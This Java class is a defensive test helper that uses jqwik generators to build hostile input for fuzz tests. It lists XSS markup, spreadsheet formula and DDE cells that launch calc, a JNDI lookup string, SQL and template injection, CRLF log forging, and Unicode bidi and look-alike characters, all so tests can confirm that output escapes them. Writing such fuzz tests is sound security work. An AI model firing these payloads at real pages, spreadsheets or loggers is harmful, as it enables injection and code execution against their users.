package nl.spiegel;

import java.util.List;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.sessions.JqwikSession;

/**
 * Generated hostile text for the fault and fuzz tests (jqwik's generators): empty and blank, lone surrogates, NUL
 * and other control characters, right-to-left overrides, zero-width characters, look-alike letters, HTML and script,
 * CSV formulas, CRLF, and ordinary text, mixed, from nothing to about {@code maxLength} characters. The payloads
 * that could harm a page or a spreadsheet are listed in {@link #MARKUP} and {@link #FORMULAS}, so tests can search
 * rendered pages and exports for them.
 */
public final class HostileStrings {

    /** Markup that must never reach a page unescaped. */
    public static final List<String> MARKUP = List.of(
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
            "<iframe src=javascript:alert(1)>", "</textarea><b>vet</b>", "<a href=\"javascript:alert(1)\">x</a>");
    /** Cells a spreadsheet would run as a formula. */
    public static final List<String> FORMULAS = List.of(
            "=HYPERLINK(\"http://example.invalid\",\"klik\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "=1+1");
    private static final List<String> ODD = List.of(
            "", " ", "\t", "\n", "\r\n", "\u0000", "\u0000\u0000", "\uD800", "\uDFFF", "\uDC00\uD800", "\u202E", "\u202D",
            "\u2066", "\u2067", "\u2068", "\u2069", "\u200B", "\u200C", "\u200D", "\uFEFF", "\u00AD", "\u2028", "\u2029",
            "\u0007", "\u001B[31m", "\r\nINFO forged log line", "%0d%0a", "${jndi:ldap://example.invalid/a}",
            "{{7*7}}", "' OR '1'='1", "\\", "\"", "\uD83D\uDE14", "\uD83D", "e\u0301", "\u0410\u0435\u043E",
            "p\u0430ypal", "\u0131", "\uFFFD", "\uFFFF", "\uFFFE", "ik wil niet meer leven", "hallo");

    private HostileStrings() {
    }

    /** One hostile fragment. */
    public static Arbitrary<String> fragments() {
        return Arbitraries.oneOf(
                Arbitraries.of(ODD),
                Arbitraries.of(MARKUP),
                Arbitraries.of(FORMULAS),
                Arbitraries.strings().all().ofMaxLength(40),
                Arbitraries.strings().alpha().numeric().whitespace().ofMaxLength(40));
    }

    /** Hostile text of up to about {@code maxLength} characters, a few of them stretched close to it. */
    public static Arbitrary<String> text(int maxLength) {
        Arbitrary<String> mixed = fragments().list().ofMaxSize(12).map(parts -> String.join("", parts));
        Arbitrary<String> long_ = Combinators.combine(fragments(), Arbitraries.integers().between(1, maxLength))
                .as((fragment, length) -> repeatTo(fragment.isEmpty() ? "\u200B" : fragment, length));
        return Arbitraries.frequencyOf(
                net.jqwik.api.Tuple.of(12, mixed),
                net.jqwik.api.Tuple.of(1, long_));
    }

    /**
     * {@code count} values, reproducible from the seed (printed by tests when they fail), for tests that run inside
     * Spring rather than jqwik's own engine.
     */
    public static <T> List<T> sample(Arbitrary<T> arbitrary, long seed, int count) {
        JqwikSession.start(Long.toString(seed));
        try {
            return arbitrary.sampleStream().limit(count).toList();
        } finally {
            JqwikSession.finish();
        }
    }

    /** The payloads from {@link #MARKUP} this text holds, to check that none of them comes out unescaped. */
    public static List<String> markupIn(String text) {
        return MARKUP.stream().filter(text::contains).toList();
    }

    private static String repeatTo(String fragment, int length) {
        StringBuilder out = new StringBuilder(length + fragment.length());
        while (out.length() < length) {
            out.append(fragment);
        }
        return out.toString();
    }
}
